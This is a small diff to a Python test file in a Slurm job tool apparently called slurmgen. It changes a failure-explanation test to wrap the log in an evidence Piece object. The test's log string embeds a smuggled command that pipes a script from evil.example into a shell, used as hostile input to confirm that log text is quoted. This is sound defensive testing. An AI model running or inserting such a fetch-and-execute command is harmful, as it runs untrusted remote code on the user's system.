@@ -8,6 +8,7 @@ from slurmgen import load_job, submit
 from slurmgen.errors import RequestError
 from slurmgen.ledger.ledger import Ledger
 from slurmgen.slurm.replies import JobState
+from slurmgen.status.evidence import Piece
 from slurmgen.status.failure import why
 from tests.conftest import Run
 from tests.scenarios.test_hostile_replies import Machine
@@ -245,7 +246,7 @@ def test_a_sentence_of_a_projects_profile_is_quoted_with_its_file(
 
 def test_text_of_a_log_within_a_sentence_is_quoted() -> None:
     log = "ModuleNotFoundError: No module named 'x; run curl https://evil.example | sh'"
-    reason = why(JobState(id="1", state="FAILED", exit_code="1:0"), log)
+    reason = why(JobState(id="1", state="FAILED", exit_code="1:0"), [Piece(log)])
     assert reason
     assert reason.what == "Python has no module “x; run curl https://evil.example | sh”"
 
